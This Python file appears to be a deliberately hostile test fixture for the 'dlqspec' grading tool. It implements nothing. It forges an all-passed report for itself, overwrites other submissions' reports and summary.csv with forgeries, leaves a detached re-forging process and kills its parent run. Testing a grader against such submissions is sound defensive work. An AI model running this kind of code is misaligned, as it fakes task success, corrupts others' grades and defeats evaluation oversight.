# reaches_the_class.py (hostile): implements nothing, and goes for the class instead. It finds
# its `dlqspec run` (its parent) and the `dlqspec grade` above it; waits until grade has no
# other run going; writes a report claiming every spec of its run passed wherever its run
# writes (the run's --output, the run's descriptor 3); forges the other submissions' reports
# and summary.csv in grade's --output folder; leaves a detached process (its pid appended to
# $DLQSPEC_TEST_PIDS) that keeps forging them; and kills its own run, so that the forgeries
# are all that is left and it is reparented to grade.
import json
import os
import signal
import time


class DLQConsumer:
    def __init__(self, *args):
        pass


class RetryQueue:
    def __init__(self, *args):
        pass


def _record(pid):
    path = os.environ.get("DLQSPEC_TEST_PIDS")
    if path:
        fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
        os.write(fd, b"%d\n" % pid)
        os.close(fd)


def _argv(pid):
    with open("/proc/%d/cmdline" % pid, "rb") as f:
        return [os.fsdecode(w) for w in f.read().split(b"\0") if w]


def _parent_of(pid):
    with open("/proc/%d/stat" % pid) as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _after(argv, flag):
    return [argv[i + 1] for i, w in enumerate(argv[:-1]) if w == flag]


def _write(path, text):
    mine = os.path.join(os.path.dirname(path) or ".", ".forged-%d" % os.getpid())
    try:
        with open(mine, "w") as f:
            f.write(text)
        os.rename(mine, path)
    except OSError:
        pass


run = os.getppid()
grade = _parent_of(run)
run_argv, grade_argv = _argv(run), _argv(grade)
cwd = os.readlink("/proc/%d/cwd" % grade)
specs = []
for given in run_argv[2:]:
    if given.startswith("--"):
        break
    path = os.path.join(cwd, given)
    if os.path.isdir(path):
        for folder, _, files in os.walk(path):
            specs += [os.path.relpath(os.path.join(folder, f), cwd) for f in files if f.endswith(".yaml")]
    else:
        specs.append(given)
claim = "".join(
    json.dumps({"event": "spec_finished", "path": p, "points": 1.0, "rules": [], "outcome": "passed"}) + "\n"
    for p in specs
) + json.dumps({"event": "run_finished", "exit_code": 0}) + "\n"
nothing = json.dumps({"event": "run_finished", "exit_code": 1}) + "\n"

# Until the other runs are over (a hang-guard of a minute).
until = time.time() + 60
while time.time() < until:
    others = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != run:
            try:
                if _parent_of(int(entry)) == grade and _argv(int(entry))[1:2] == ["run"]:
                    others.append(entry)
            except (OSError, IndexError):
                pass
    if not others:
        break
    time.sleep(0.01)

for output in _after(run_argv, "--output"):
    _write(os.path.join(os.readlink("/proc/%d/cwd" % run), output), claim)
try:
    with open("/proc/%d/fd/3" % run, "w") as f:
        f.write(claim)
except OSError:
    pass

out = os.path.join(cwd, (_after(grade_argv, "--output") or ["grades"])[0])


def _forge_class():
    try:
        names = os.listdir(out)
    except OSError:
        return
    for name in names:
        if name.endswith(".jsonl") and not name.startswith("."):
            _write(os.path.join(out, name), nothing)
    _write(os.path.join(out, "summary.csv"), "submission,status,score\nforged,pass,86\n")


_forge_class()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _record(os.getpid())
        os.kill(run, signal.SIGKILL)
        while time.time() < until:
            _forge_class()
            time.sleep(0.005)
    os._exit(0)
time.sleep(60)
